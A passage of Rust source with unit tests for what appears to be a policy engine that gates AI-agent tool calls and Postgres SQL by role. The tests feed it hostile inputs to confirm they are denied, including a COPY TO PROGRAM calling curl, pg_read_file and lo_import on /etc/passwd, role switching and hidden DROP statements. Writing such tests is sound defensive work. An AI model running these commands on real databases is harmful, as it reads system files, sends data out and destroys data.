        (Value::Number(x), Value::Number(y)) => match (x.as_f64(), y.as_f64()) {
            (Some(x), Some(y)) => x == y,
            _ => x == y,
        },
        _ => a == b,
    }
}

fn short(v: &Value) -> String {
    let s = v.to_string();
    if s.chars().count() > 80 {
        let cut: String = s.chars().take(77).collect();
        format!("{cut}...")
    } else {
        s
    }
}

fn check_argument(c: &ArgConstraint, arguments: &Value) -> Result<(), String> {
    let p = &c.path_text;
    let Some(v) = lookup(arguments, &c.path) else {
        return Err(format!("argument `{p}` is missing"));
    };
    let ok = match &c.test {
        ArgTest::Equals(want) => json_eq(v, want),
        ArgTest::OneOf(options) => options.iter().any(|o| json_eq(v, o)),
        ArgTest::Glob(globs) => v.as_str().is_some_and(|s| glob::any_matches(globs, s)),
        ArgTest::Range { min, max } => v.as_f64().is_some_and(|n| {
            n.is_finite() && min.is_none_or(|m| n >= m) && max.is_none_or(|m| n <= m)
        }),
    };
    if ok {
        Ok(())
    } else {
        let allowed = match &c.test {
            ArgTest::Equals(w) => format!("must equal {}", short(w)),
            ArgTest::OneOf(o) => format!(
                "must be one of [{}]",
                o.iter().map(short).collect::<Vec<_>>().join(", ")
            ),
            ArgTest::Glob(g) => format!("must be a string matching {g:?}"),
            ArgTest::Range { min, max } => match (min, max) {
                (Some(a), Some(b)) => format!("must be a number in [{a}, {b}]"),
                (Some(a), None) => format!("must be a number >= {a}"),
                (None, Some(b)) => format!("must be a number <= {b}"),
                (None, None) => "must be a number".into(),
            },
        };
        Err(format!("argument `{p}` = {} {allowed}", short(v)))
    }
}

/// Something a list response may show.
#[derive(Debug, Clone, Copy)]
pub enum Item<'a> {
    Tool(&'a str),
    Resource(&'a str),
    ResourceTemplate(&'a str),
    Prompt(&'a str),
}

/// Whether a list response shows `item` to the caller: some allow or review
/// rule could let the caller use it (ignoring argument constraints), and no
/// deny rule refuses it outright (a deny without argument constraints).
pub fn visible(policy: &Policy, roles: &[String], target: &str, item: Item) -> bool {
    visible_in(policy, roles, target, item, Scan::Untraced)
}

/// [`visible`] through `index` (see [`evaluate_indexed`]).
pub fn visible_indexed(
    policy: &Policy,
    index: &RuleIndex,
    roles: &[String],
    target: &str,
    item: Item,
) -> bool {
    visible_in(policy, roles, target, item, Scan::Indexed(index))
}

fn visible_in(policy: &Policy, roles: &[String], target: &str, item: Item, scan: Scan) -> bool {
    let null = Value::Null;
    let req = match item {
        Item::Tool(name) => Request::ToolCall {
            name,
            arguments: &null,
        },
        Item::Resource(uri) | Item::ResourceTemplate(uri) => Request::Resource { uri },
        Item::Prompt(name) => Request::Prompt { name },
    };
    let mut usable = false;
    let mut picked = Vec::new();
    for rule in considered(policy, target, roles, &req, scan, &mut picked) {
        if !role_applies(rule, roles) {
            continue;
        }
        let name_matches = match (&rule.matcher, &req) {
            (Matcher::Any, _) => true,
            (Matcher::Mcp(m), Request::ToolCall { name, .. }) => glob::any_matches(&m.tools, name),
            (Matcher::Mcp(m), Request::Resource { uri }) => glob::any_matches(&m.resources, uri),
            (Matcher::Mcp(m), Request::Prompt { name }) => glob::any_matches(&m.prompts, name),
            _ => false,
        };
        if !name_matches {
            continue;
        }
        let unconditional = match &rule.matcher {
            Matcher::Mcp(m) => {
                (m.arguments.is_empty() && m.sql_argument.is_none())
                    || !matches!(req, Request::ToolCall { .. })
            }
            _ => true,
        };
        match rule.effect {
            Effect::Deny if unconditional => return false,
            Effect::Deny => {}
            Effect::Allow | Effect::Review => usable = true,
        }
    }
    usable
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::model::*;
    use serde_json::json;

    fn rule(id: &str, effect: Effect, roles: &[&str], m: Matcher) -> Rule {
        Rule {
            id: id.into(),
            effect,
            roles: roles.iter().map(|s| s.to_string()).collect(),
            target: "tools".into(),
            matcher: m,
            reason: None,
        }
    }

    fn tools(t: &[&str]) -> McpMatch {
        McpMatch {
            tools: t.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        }
    }

    fn policy() -> Policy {
        let mut staging = tools(&["deploy"]);
        staging.arguments.push(ArgConstraint {
            path: vec![PathSeg::Key("environment".into())],
            path_text: "environment".into(),
            test: ArgTest::OneOf(vec![json!("staging")]),
        });
        let mut replicas = tools(&["scale"]);
        replicas.arguments.push(ArgConstraint {
            path: vec![PathSeg::Key("spec".into()), PathSeg::Key("replicas".into())],
            path_text: "spec.replicas".into(),
            test: ArgTest::Range {
                min: Some(1.0),
                max: Some(5.0),
            },
        });
        Policy {
            targets: vec![Target {
                name: "tools".into(),
                protocol: Protocol::Mcp,
                forward_token: false,
                backend_user: None,
                backend_password_env: None,
                backend_database: None,
                mask_key_env: None,
            }],
            rules: vec![
                rule(
                    "k8s",
                    Effect::Allow,
                    &["dev"],
                    Matcher::Mcp(tools(&["k8s_get_*"])),
                ),
                rule("staging", Effect::Allow, &["dev"], Matcher::Mcp(staging)),
                rule("scale", Effect::Allow, &["dev"], Matcher::Mcp(replicas)),
                rule(
                    "no-secrets",
                    Effect::Deny,
                    &[],
                    Matcher::Mcp(tools(&["k8s_get_secrets"])),
                ),
                rule(
                    "drop-review",
                    Effect::Review,
                    &["dev"],
                    Matcher::Mcp(tools(&["drop_*"])),
                ),
                rule(
                    "drop-all",
                    Effect::Allow,
                    &["dev"],
                    Matcher::Mcp(tools(&["drop_*"])),
                ),
            ],
            ..Default::default()
        }
    }

    fn call(p: &Policy, roles: &[&str], name: &str, args: Value) -> Decision {
        let roles: Vec<String> = roles.iter().map(|s| s.to_string()).collect();
        evaluate(
            p,
            &roles,
            "tools",
            &Request::ToolCall {
                name,
                arguments: &args,
            },
        )
    }

    #[test]
    fn decision_order() {
        let p = policy();
        let d = call(&p, &["dev"], "k8s_get_pods", json!({}));
        assert_eq!((d.effect, d.rule.as_deref()), (Effect::Allow, Some("k8s")));
        let d = call(&p, &["dev"], "k8s_get_secrets", json!({}));
        assert_eq!(
            (d.effect, d.rule.as_deref()),
            (Effect::Deny, Some("no-secrets"))
        );
        let d = call(&p, &["dev"], "drop_table", json!({}));
        assert_eq!(
            (d.effect, d.rule.as_deref()),
            (Effect::Review, Some("drop-review"))
        );
        let d = call(&p, &["ops"], "k8s_get_pods", json!({}));
        assert_eq!((d.effect, d.rule), (Effect::Deny, None));
        let d = call(&p, &[], "whatever", json!({}));
        assert_eq!(d.effect, Effect::Deny);
    }

    #[test]
    fn argument_constraints() {
        let p = policy();
        assert!(call(&p, &["dev"], "deploy", json!({"environment": "staging"})).allowed());
        let d = call(&p, &["dev"], "deploy", json!({"environment": "production"}));
        assert_eq!(
            (d.effect, d.rule.as_deref()),
            (Effect::Deny, Some("staging"))
        );
        assert!(d.reason.contains("argument `environment`"), "{}", d.reason);
        assert!(call(&p, &["dev"], "deploy", json!({})).effect == Effect::Deny);
        assert!(
            call(&p, &["dev"], "deploy", json!({"environment": ["staging"]})).effect
                == Effect::Deny
        );
        assert!(call(&p, &["dev"], "scale", json!({"spec": {"replicas": 3}})).allowed());
        assert!(call(&p, &["dev"], "scale", json!({"spec": {"replicas": 3.0}})).allowed());
        assert!(!call(&p, &["dev"], "scale", json!({"spec": {"replicas": 6}})).allowed());
        assert!(!call(&p, &["dev"], "scale", json!({"spec": {"replicas": "3"}})).allowed());
        assert!(!call(&p, &["dev"], "scale", json!("not an object")).allowed());
    }

    #[test]
    fn traces_every_rule() {
        let p = policy();
        let mut seen = Vec::new();
        let roles = vec!["dev".to_string()];
        let args = json!({"environment": "production"});
        let d = evaluate_traced(
            &p,
            &roles,
            "tools",
            &Request::ToolCall {
                name: "deploy",
                arguments: &args,
            },
            &mut |t| seen.push(t),
        );
        assert_eq!(seen.len(), p.rules.len());
        let staging = seen.iter().find(|t| t.rule == "staging").unwrap();
        assert!(!staging.matched);
        assert!(staging.why.contains("environment"), "{}", staging.why);
        assert_eq!(d.rule.as_deref(), Some("staging"));
        assert!(d.reason.contains("must be one of"), "{}", d.reason);
    }

    #[test]
    fn visibility() {
        let p = policy();
        let dev = vec!["dev".to_string()];
        assert!(visible(&p, &dev, "tools", Item::Tool("k8s_get_pods")));
        assert!(visible(&p, &dev, "tools", Item::Tool("deploy")));
        assert!(!visible(&p, &dev, "tools", Item::Tool("k8s_get_secrets")));
        assert!(!visible(&p, &dev, "tools", Item::Tool("rm_rf")));
        assert!(visible(&p, &dev, "tools", Item::Tool("drop_table")));
        assert!(!visible(&p, &[], "tools", Item::Tool("k8s_get_pods")));
    }

    // ------------------------------------------------------------- SQL

    fn sqlm(statements: &[&str], tables: &[&str]) -> SqlMatch {
        SqlMatch {
            statements: statements
                .iter()
                .map(|s| StatementClass::parse(s).unwrap())
                .collect(),
            tables: tables.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        }
    }

    fn on(target: &str, mut r: Rule) -> Rule {
        r.target = target.into();
        r
    }

    /// SCENARIOS.md's orders-db and agent-sql rules.
    fn sql_policy() -> Policy {
        let mut agent = tools(&["query"]);
        agent.sql_argument = Some(ArgPath {
            path: vec![PathSeg::Key("sql".into())],
            path_text: "sql".into(),
        });
        agent.sql = Some(sqlm(&["select"], &["public.orders"]));
        let mut no_files = tools(&["query"]);
        no_files.sql_argument = agent.sql_argument.clone();
        no_files.sql = Some(SqlMatch {
            functions: vec!["pg_read_file".into(), "lo_*".into()],
            ..Default::default()
        });
        let db = |id: &str, e: Effect, roles: &[&str], m: SqlMatch| {
            on("orders-db", rule(id, e, roles, Matcher::Sql(m)))
        };
        let mut unbounded = sqlm(&["update", "delete"], &[]);
        unbounded.without_where = true;
        let mut program = sqlm(&[], &[]);
        program.copy_program = true;
        Policy {
            targets: vec![
                Target {
                    name: "tools".into(),
                    protocol: Protocol::Mcp,
                    forward_token: false,
                    backend_user: None,
                    backend_password_env: None,
                    backend_database: None,
                    mask_key_env: None,
                },
                Target {
                    name: "orders-db".into(),
                    protocol: Protocol::Postgres,
                    forward_token: false,
                    backend_user: None,
                    backend_password_env: None,
                    backend_database: None,
                    mask_key_env: None,
                },
            ],
            rules: vec![
                db(
                    "analysts-read-orders",
                    Effect::Allow,
                    &["analyst"],
                    sqlm(&["select"], &["public.orders", "public.customers"]),
                ),
                db(
                    "writers",
                    Effect::Allow,
                    &["writer"],
                    sqlm(&["select", "update", "delete", "insert"], &["public.*"]),
                ),
                db(
                    "ddl-needs-review",
                    Effect::Review,
                    &["dba"],
                    sqlm(&["create", "alter"], &[]),
                ),
                db("dba-all", Effect::Allow, &["dba"], SqlMatch::default()),
                db(
                    "never-destroy",
                    Effect::Deny,
                    &[],
                    sqlm(&["drop", "truncate"], &[]),
                ),
                db("no-unbounded-writes", Effect::Deny, &[], unbounded),
                db("no-program", Effect::Deny, &[], program),
                rule(
                    "agent-sql",
                    Effect::Allow,
                    &["analyst"],
                    Matcher::Mcp(agent),
                ),
                rule("no-file-reads", Effect::Deny, &[], Matcher::Mcp(no_files)),
                rule(
                    "k8s",
                    Effect::Allow,
                    &["analyst"],
                    Matcher::Mcp(tools(&["k8s_*"])),
                ),
            ],
            ..Default::default()
        }
    }

    fn sql_on_db(p: &Policy, roles: &[&str], text: &str) -> Decision {
        let roles: Vec<String> = roles.iter().map(|s| s.to_string()).collect();
        evaluate_sql(p, &roles, "orders-db", text, &mut |_| {})
    }

    fn verdict(d: &Decision) -> (Effect, Option<&str>) {
        (d.effect, d.rule.as_deref())
    }

    #[test]
    fn side_effect_functions_need_a_rule_naming_them() {
        let p = sql_policy();
        // analyst: select on public.orders / public.customers, no functions
        // list; dba: everything.
        for q in [
            "SELECT nextval('orders_id_seq')",
            "SELECT setval('orders_id_seq', 1)",
            "SELECT pg_cancel_backend(42)",
            "SELECT pg_catalog.pg_terminate_backend(42)",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_notify('c', 'x')",
            "SELECT table_to_xml('secrets', true, false, '')",
            "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
            "SELECT * FROM ts_stat('SELECT to_tsvector(value) FROM secrets')",
            "SELECT id FROM orders WHERE id = (SELECT nextval('s'))",
            "SELECT public.nextval('s')",
        ] {
            let d = sql_on_db(&p, &["analyst"], q);
            assert_eq!(d.effect, Effect::Deny, "{q}: {d:?}");
            assert!(
                d.reason.contains("has effects beyond reading"),
                "{q}: {}",
                d.reason
            );
        }
        // A setting changed by set_config is a `set`: not a select-only rule's.
        let d = sql_on_db(
            &p,
            &["analyst"],
            "SELECT set_config('statement_timeout', '1', false)",
        );
        assert_eq!(d.effect, Effect::Deny, "{d:?}");
        assert!(d.reason.contains("statement kind set"), "{}", d.reason);
        // Plain reads and ordinary functions are unchanged.
        assert!(sql_on_db(
            &p,
            &["analyst"],
            "SELECT lower(item), count(*) FROM orders GROUP BY 1"
        )
        .allowed());
        // A rule naming the function allows it.
        let mut named = p.clone();
        for r in named.rules.iter_mut() {
            if let Matcher::Sql(m) = &mut r.matcher {
                if r.effect == Effect::Allow && r.roles.iter().any(|x| x == "dba") {
                    m.functions = vec!["nextval".into(), "count".into()];
                }
            }
        }
        let d = sql_on_db(&named, &["dba"], "SELECT nextval('orders_id_seq')");
        assert!(d.allowed(), "{d:?}");
    }

    #[test]
    fn protected_settings_are_refused_whatever_the_policy() {
        let p = sql_policy();
        // dba-all allows every statement kind on the target...
        assert!(sql_on_db(&p, &["dba"], "SET statement_timeout = 5").allowed());
        assert!(sql_on_db(
            &p,
            &["dba"],
            "SELECT set_config('application_name', 'x', false)"
        )
        .allowed());
        // ...but not these.
        for q in [
            "SET search_path = private",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET NAMES 'SJIS'",
            "SET standard_conforming_strings = off",
            "SELECT set_config('client_encoding', 'SJIS', false)",
            "SELECT 1; SELECT pg_catalog.set_config('search_path', 'private', false)",
            "SELECT set_config(current_user, 'x', false)",
            "PREPARE p AS SELECT set_config('role', 'x', false)",
        ] {
            let d = sql_on_db(&p, &["dba"], q);
            assert_eq!(
                verdict(&d),
                (Effect::Deny, Some(PROTECTED_SETTINGS_RULE)),
                "{q}"
            );
            assert!(
                d.reason.contains("no statement may change"),
                "{q}: {}",
                d.reason
            );
        }
    }

    #[test]
    fn sql_rules_on_a_postgres_target() {
        let p = sql_policy();
        let a = &["analyst"];
        let d = sql_on_db(
            &p,
            a,
            "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id",
        );
        assert_eq!(verdict(&d), (Effect::Allow, Some("analysts-read-orders")));
        // Another table, a write, a schema outside public: default deny
        // naming nobody.
        for q in [
            "SELECT * FROM deployments",
            "SELECT * FROM secret.orders",
            "DELETE FROM orders WHERE id = 1",
            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
            "SELECT * FROM orders WHERE id IN (SELECT id FROM public.payments)",
        ] {
            let d = sql_on_db(&p, a, q);
            assert_eq!(d.effect, Effect::Deny, "{q}: {d:?}");
        }
        let d = sql_on_db(&p, a, "SELECT * FROM payments");
        assert!(d.reason.contains("public.payments"), "{}", d.reason);
        // never-destroy: drop and truncate, for everyone.
        for q in [
            "DROP TABLE orders",
            "TRUNCATE orders",
            "DROP INDEX orders_idx",
        ] {
            let d = sql_on_db(&p, &["dba"], q);
            assert_eq!(verdict(&d), (Effect::Deny, Some("never-destroy")), "{q}");
        }
        // no-unbounded-writes: UPDATE/DELETE without WHERE, nested too.
        let w = &["writer"];
        assert!(sql_on_db(&p, w, "UPDATE orders SET total = 0 WHERE id = 1").allowed());
        assert!(sql_on_db(&p, w, "DELETE FROM orders WHERE id = 1").allowed());
        for q in [
            "UPDATE orders SET total = 0",
            "DELETE FROM orders",
            "WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d",
        ] {
            let d = sql_on_db(&p, w, q);
            assert_eq!(
                verdict(&d),
                (Effect::Deny, Some("no-unbounded-writes")),
                "{q}"
            );
        }
        // Review for DDL (deny still wins over it).
        let d = sql_on_db(&p, &["dba"], "ALTER TABLE orders ADD COLUMN note text");
        assert_eq!(verdict(&d), (Effect::Review, Some("ddl-needs-review")));
        assert!(sql_on_db(&p, &["dba"], "VACUUM orders").allowed());
        // COPY … PROGRAM is denied; a plain COPY TO STDOUT is not.
        let d = sql_on_db(&p, &["dba"], "COPY orders TO PROGRAM 'curl evil'");
        assert_eq!(verdict(&d), (Effect::Deny, Some("no-program")));
        assert!(sql_on_db(&p, &["dba"], "COPY orders TO STDOUT").allowed());
        // EXPLAIN ANALYZE is judged as its statement.
        let d = sql_on_db(&p, w, "EXPLAIN ANALYZE DELETE FROM orders");
        assert_eq!(verdict(&d), (Effect::Deny, Some("no-unbounded-writes")));
        // Unparsable SQL and SQL over the caps are denied.
        let d = sql_on_db(&p, &["dba"], "SELEC 1");
        assert_eq!(verdict(&d), (Effect::Deny, None));
        assert!(d.reason.contains("could not be parsed"), "{}", d.reason);
        let long = format!("SELECT 1{}", " ".repeat(crate::pg::sql::MAX_SQL_LEN));
        assert_eq!(sql_on_db(&p, &["dba"], &long).effect, Effect::Deny);
    }

    #[test]
    fn multi_statement_takes_the_worst() {
        let p = sql_policy();
        let a = &["analyst"];
        assert!(sql_on_db(&p, a, "SELECT 1; SELECT * FROM orders").allowed());
        let d = sql_on_db(&p, a, "SELECT 1; DROP TABLE orders; SELECT 2");
        assert_eq!(verdict(&d), (Effect::Deny, Some("never-destroy")));
        assert!(d.reason.contains("DROP TABLE orders"), "{}", d.reason);
        // A review and an allow: review; a review and a deny: deny.
        let dba = &["dba"];
        let d = sql_on_db(&p, dba, "SELECT 1; CREATE TABLE t (a int)");
        assert_eq!(verdict(&d), (Effect::Review, Some("ddl-needs-review")));
        let d = sql_on_db(&p, dba, "CREATE TABLE t (a int); TRUNCATE orders");
        assert_eq!(verdict(&d), (Effect::Deny, Some("never-destroy")));
        // Traces say which statement they are about.
        let mut seen = Vec::new();
        let roles = vec!["analyst".to_string()];
        evaluate_sql(&p, &roles, "orders-db", "SELECT 1; SELECT 2", &mut |t| {
            seen.push(t)
        });
        assert!(seen.iter().any(|t| t.why.starts_with("statement 2: ")));
    }

    #[test]
    fn allow_and_deny_read_lists_differently() {
        let mut p = sql_policy();
        // Allow: every table must match; deny: one is enough.
        p.rules = vec![
            on(
                "orders-db",
                rule(
                    "read",
                    Effect::Allow,
                    &["r"],
                    Matcher::Sql(sqlm(&["select"], &["public.orders"])),
                ),
            ),
            on(
                "orders-db",
                rule(
                    "no-secrets",
                    Effect::Deny,
                    &[],
                    Matcher::Sql(sqlm(&[], &["secret.*"])),
                ),
            ),
            on(
                "orders-db",
                rule(
                    "only-lower",
                    Effect::Allow,
                    &["fn"],
                    Matcher::Sql(SqlMatch {
                        functions: vec!["lower".into(), "count".into()],
                        ..sqlm(&["select"], &[])
                    }),
                ),
            ),
        ];
        let none: &[&str] = &["r"];
        assert!(!sql_on_db(&p, none, "SELECT * FROM orders JOIN other USING (id)").allowed());
        let d = sql_on_db(&p, none, "SELECT * FROM orders JOIN secret.keys USING (id)");
        assert_eq!(verdict(&d), (Effect::Deny, Some("no-secrets")));
        // A deny with no list is about any statement of its kinds, unknown
        // kinds included; an allow never matches an unknown kind.
        let unknown = StatementInfo {
            kind: StatementKind::Other("Fancy".into()),
            reads: vec![],
            writes: vec![],
            functions: vec![],
            dml_kinds: vec![],
            has_where: true,
            copy_program: false,
            copy_file: false,
            inner: None,
            settings: vec![],
            text: "FANCY".into(),
        };
        let any_allow = vec![on(
            "orders-db",
            rule("all", Effect::Allow, &[], Matcher::Sql(SqlMatch::default())),
        )];
        let q = Policy {
            rules: any_allow,
            ..p.clone()
        };
        let d = evaluate(
            &q,
            &[],
            "orders-db",
            &Request::Sql {
                statement: &unknown,
            },
        );
        assert_eq!(verdict(&d), (Effect::Deny, Some("all")));
        assert!(d.reason.contains("only deny rules"), "{}", d.reason);
        let d = evaluate(
            &q,
            &[],
            "orders-db",
            &Request::Sql {
                statement: &unknown,
            },
        );
        assert!(d.reason.contains("FANCY"), "{}", d.reason);
        let mut q2 = q.clone();
        q2.rules.push(on(
            "orders-db",
            rule("d", Effect::Deny, &[], Matcher::Sql(SqlMatch::default())),
        ));
        let d = evaluate(
            &q2,
            &[],
            "orders-db",
            &Request::Sql {
                statement: &unknown,
            },
        );
        assert_eq!(verdict(&d), (Effect::Deny, Some("d")));
        // Allow `functions`: every call must match (pg_catalog ones too).
        let f = &["fn"];
        assert!(sql_on_db(&p, f, "SELECT lower(name), count(*) FROM t").allowed());
        assert!(sql_on_db(&p, f, "SELECT pg_catalog.lower('A')").allowed());
        assert!(!sql_on_db(&p, f, "SELECT lower(name), upper(name) FROM t").allowed());
        assert!(!sql_on_db(&p, f, "SELECT evil.lower('a')").allowed());
        // Object types: `drop table` is not `drop index`; `role` covers users.
        assert!(class_matches(
            &StatementClass::parse("drop table").unwrap(),
            &StatementKind::Drop(ObjectType::Table)
        ));
        assert!(!class_matches(
            &StatementClass::parse("drop  table").unwrap(),
            &StatementKind::Drop(ObjectType::Index)
        ));
        assert!(class_matches(
            &StatementClass::parse("create role").unwrap(),
            &StatementKind::Create(ObjectType::User)
        ));
        assert!(class_matches(
            &StatementClass::Copy,
            &StatementKind::CopyFrom
        ));
        assert!(StatementClass::parse("drop tables").is_none());
        for (n, c) in StatementClass::SIMPLE {
            assert_eq!(StatementClass::parse(n), Some(c.clone()));
            assert_eq!(c.as_string(), n);
        }
    }

    fn query(p: &Policy, roles: &[&str], args: Value) -> Decision {
        call(p, roles, "query", args)
    }

    #[test]
    fn agent_sql_through_a_tool_argument() {
        let p = sql_policy();
        let a = &["analyst"];
        let d = query(
            &p,
            a,
            json!({"sql": "SELECT id, total FROM orders WHERE id = 7"}),
        );
        assert_eq!(verdict(&d), (Effect::Allow, Some("agent-sql")));
        // DELETE: refused, naming the rule that stopped it and the statement.
        let d = query(&p, a, json!({"sql": "DELETE FROM orders"}));
        assert_eq!(verdict(&d), (Effect::Deny, Some("agent-sql")));
        assert!(d.reason.contains("DELETE FROM orders"), "{}", d.reason);
        assert!(d.reason.contains("delete"), "{}", d.reason);
        // A CTE hiding a DELETE is a delete.
        let d = query(
            &p,
            a,
            json!({"sql": "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"}),
        );
        assert_eq!(d.effect, Effect::Deny);
        // Another table; a hidden second statement.
        assert!(!query(&p, a, json!({"sql": "SELECT * FROM customers"})).allowed());
        let d = query(&p, a, json!({"sql": "SELECT 1; DROP TABLE orders"}));
        assert_eq!(d.effect, Effect::Deny);
        assert!(d.reason.contains("DROP TABLE orders"), "{}", d.reason);
        // A dangerous function: denied by the functions deny rule.
        let d = query(&p, a, json!({"sql": "SELECT pg_read_file('/etc/passwd')"}));
        assert_eq!(verdict(&d), (Effect::Deny, Some("no-file-reads")));
        let d = query(
            &p,
            a,
            json!({"sql": "SELECT pg_catalog.pg_read_file('/etc/passwd')"}),
        );
        assert_eq!(verdict(&d), (Effect::Deny, Some("no-file-reads")));
        // Unparsable, missing, not a string: denied with a clear reason.
        let d = query(&p, a, json!({"sql": "SELEC * FROM orders"}));
        assert_eq!(verdict(&d), (Effect::Deny, None));
        assert!(
            d.reason
                .contains("the SQL in argument `sql` could not be parsed"),
            "{}",
            d.reason
        );
        let d = query(&p, a, json!({}));
        assert!(d.reason.contains("`sql` is missing"), "{}", d.reason);
        let d = query(&p, a, json!({"sql": 42}));
        assert!(d.reason.contains("not a string"), "{}", d.reason);
        // Other roles: default deny; other tools are untouched by SQL.
        assert!(!query(&p, &["dev"], json!({"sql": "SELECT * FROM orders"})).allowed());
        assert!(call(&p, a, "k8s_get", json!({})).allowed());
        // The trace covers each statement.
        let mut seen = Vec::new();
        let roles = vec!["analyst".to_string()];
        let args = json!({"sql": "SELECT 1; SELECT * FROM orders"});
        let d = evaluate_traced(
            &p,
            &roles,
            "tools",
            &Request::ToolCall {
                name: "query",
                arguments: &args,
            },
            &mut |t| seen.push(t),
        );
        assert!(d.allowed(), "{d:?}");
        assert!(seen
            .iter()
            .any(|t| t.rule == "agent-sql" && t.matched && t.why.starts_with("statement 2: ")));
    }

    #[test]
    fn plain_tool_rules_still_apply_to_sql_tools() {
        let mut p = sql_policy();
        p.rules.push(rule(
            "admin-query",
            Effect::Allow,
            &["admin"],
            Matcher::Mcp(tools(&["query"])),
        ));
        p.rules.push(rule(
            "contractors",
            Effect::Deny,
            &["contractor"],
            Matcher::Mcp(tools(&["*"])),
        ));
        let d = query(
            &p,
            &["admin"],
            json!({"sql": "DELETE FROM orders WHERE id = 1"}),
        );
        assert_eq!(verdict(&d), (Effect::Allow, Some("admin-query")));
        // …but the SQL must still parse, and deny rules still see it.
        assert!(!query(&p, &["admin"], json!({"sql": "DELET"})).allowed());
        let d = query(
            &p,
            &["admin"],
            json!({"sql": "SELECT lo_import('/etc/passwd')"}),
        );
        assert_eq!(verdict(&d), (Effect::Deny, Some("no-file-reads")));
        let d = query(
            &p,
            &["analyst", "contractor"],
            json!({"sql": "SELECT * FROM orders"}),
        );
        assert_eq!(verdict(&d), (Effect::Deny, Some("contractors")));
    }

    #[test]
    fn sql_tool_visibility() {
        let p = sql_policy();
        let analyst = vec!["analyst".to_string()];
        // A deny with SQL conditions does not hide the tool.
        assert!(visible(&p, &analyst, "tools", Item::Tool("query")));
        assert!(!visible(
            &p,
            &["dev".to_string()],
            "tools",
            Item::Tool("query")
        ));
    }
}
